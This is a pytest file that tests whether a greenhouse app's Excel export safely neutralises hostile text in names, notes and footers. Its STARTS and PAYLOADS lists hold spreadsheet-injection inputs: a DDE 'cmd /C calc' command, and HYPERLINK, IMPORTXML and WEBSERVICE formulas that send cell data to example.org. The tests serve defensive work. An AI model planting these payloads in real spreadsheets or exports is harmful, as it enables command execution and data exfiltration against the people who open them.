"""A thousand hostile names and notes: not one becomes a formula, a link, or a broken file."""

from __future__ import annotations

import itertools
import re
import zipfile
from dataclasses import replace
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import paper_weeks as weeks
import pytest
from openpyxl.cell.cell import Cell

from bayround.actions.workbook import write_week
from bayround.paper.workbook.book import PARTS
from bayround.paper.workbook.cells import safe_text
from bayround.week.snapshot import WeekSnapshot

# First characters that spreadsheets act on: OWASP, “CSV Injection”; the payloads are the ones it shows, and XML's own.
STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "＝",
    "'=",
    '"=',
    " =",
    "=-",
    "@=",
    "|",
    "%",
    "=\x00",
    "\ufeff=",
    "\u202e=",
)
PAYLOADS = (
    'cmd|" /C calc"!A0',
    'HYPERLINK("http://example.org/?x="&A1,"click")',
    'IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    "1+1",
    "SUM(1,1)*cmd|' /C calc'!A0",
    "'[other.xlsx]Sheet1'!A1",
    'WEBSERVICE("http://example.org")',
    "</t></is></c><c><f>1+1</f></c>",
    "<![CDATA[ x ]]>&amp;&lt;&#x3D;",
    "_x003D_1+1",
    "\ud800 lone surrogate \uffff",
    "#REF!",
)


def hostile_strings() -> list[str]:
    mixed = [start + payload for start, payload in itertools.product(STARTS, PAYLOADS)]
    return [f"{text} {number}" for number in range(5) for text in mixed]


HOSTILE = hostile_strings()
CHECK_SHEET = f"xl/worksheets/sheet{1 + [part.title for part in PARTS].index('Check the sums')}.xml"


@pytest.fixture(scope="module")
def attacked(tmp_path_factory) -> tuple[Path, WeekSnapshot]:
    """Return a workbook in which every free text is hostile, and the week it shows."""
    pool = itertools.cycle(HOSTILE)
    used: set[str] = set()

    def name(_what: str, _number: int) -> str:
        text = next(pool)
        used.add(text)
        return text

    facts = weeks.season(houses=10, bays=11, plants=1, name=name)
    assert len(used) >= 1000
    snapshot = weeks.snapshot(facts)
    path = tmp_path_factory.mktemp("attacked") / "a.xlsx"
    return write_week(snapshot, path, crops=weeks.CROPS), snapshot


@pytest.fixture(scope="module")
def cells(attacked) -> list[Cell]:
    """Return every cell of that workbook, read again."""
    book = openpyxl.load_workbook(attacked[0])
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_a_thousand_strings_went_in(attacked):
    assert len(HOSTILE) == len(set(HOSTILE)) >= 1000
    assert attacked[0].stat().st_size > 10_000


def test_none_became_a_formula(cells):
    formulas = [cell for cell in cells if cell.data_type in {"f", "e"}]
    assert {cell.parent.title for cell in formulas} == {"Check the sums"}
    assert not [cell for cell in formulas if "example.org" in cell.value or "cmd" in cell.value]


def test_none_became_a_link_or_an_outside_reference(attacked):
    with zipfile.ZipFile(attacked[0]) as parts:
        names = parts.namelist()
        assert not [name for name in names if "externalLink" in name or "vba" in name.lower()]
        for name in names:
            text = parts.read(name).decode("utf-8")
            ElementTree.fromstring(text)
            assert "<hyperlink" not in text
            assert 'TargetMode="External"' not in text
            if name.startswith("xl/worksheets/sheet"):
                assert bool(re.search(r"<f[ >/]", text)) == (name == CHECK_SHEET), name


def test_every_text_cell_is_quoted(cells):
    texts = [cell for cell in cells if cell.data_type == "s"]
    assert len(texts) > 3000
    assert all(cell.quotePrefix for cell in texts)


def test_names_and_notes_are_all_there(attacked, cells):
    snapshot = attacked[1]
    expected: set[str] = set()
    for seen in snapshot.bays:
        expected |= {
            seen.house.name,
            seen.bay.name,
            seen.planting.variety,
            *(item.note for item in seen.past.treatments),
        }
        expected |= {reading.note for reading in seen.visit.readings.values()}
        expected |= {check.where for check in seen.visit.checks} | {note.species for note in seen.visit.weeds}
    expected = {safe_text(text) for text in expected if text}
    assert len(expected) > 400
    assert expected <= {cell.value for cell in cells}


def test_names_in_footer_and_properties_do_no_harm(week, tmp_path):
    farm = replace(week.farm, name='A&P "&D" &[Path] ' + "=1+1 \x00\x1f" + "long " * 60)
    path = write_week(replace(week, farm=farm), tmp_path / "a.xlsx")
    sheet = openpyxl.load_workbook(path)["Bays"]
    with zipfile.ZipFile(path) as parts:
        footer = re.search(r"<oddFooter>(.*?)</oddFooter>", parts.read("xl/worksheets/sheet3.xml").decode())
        ElementTree.fromstring(parts.read("docProps/core.xml"))
    assert footer is not None
    assert "A&amp;&amp;P" in footer[1]
    # 255 characters a footer: Microsoft, “Excel specifications and limits”.
    assert len(footer[1].replace("&amp;", "&")) <= 255
    assert sheet.oddFooter.center.text == "&A"
